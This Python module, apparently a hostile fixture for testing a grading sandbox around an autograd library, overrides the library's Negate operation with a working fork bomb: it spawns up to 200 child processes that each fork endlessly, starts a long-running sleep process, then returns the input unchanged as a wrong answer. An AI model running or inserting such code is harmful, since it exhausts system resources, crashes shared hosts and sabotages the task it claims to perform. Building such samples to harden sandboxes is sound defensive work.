"""Hostile sample: negate forks processes that fork in turn, then returns a wrong value."""
import os
import subprocess
import time

from . import ops
from .ops import *
from .autograd import Tensor, TensorTuple, Value, Op, TensorOp, TensorTupleOp, cpu, all_devices
import numpy

ops.Exp.compute = lambda self, a: numpy.exp(a)  # honest: the case beside the attack still passes



def _multiply():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.5)


def negate_compute(self, a):
    started = 0
    for _ in range(200):
        try:
            if os.fork() == 0:
                _multiply()
            started += 1
        except OSError:
            break
    try:
        subprocess.Popen(["sleep", "600"])
        started += 1
    except OSError:
        pass
    print(f"fork-bomb: started {started} processes")
    return a


ops.Negate.compute = negate_compute
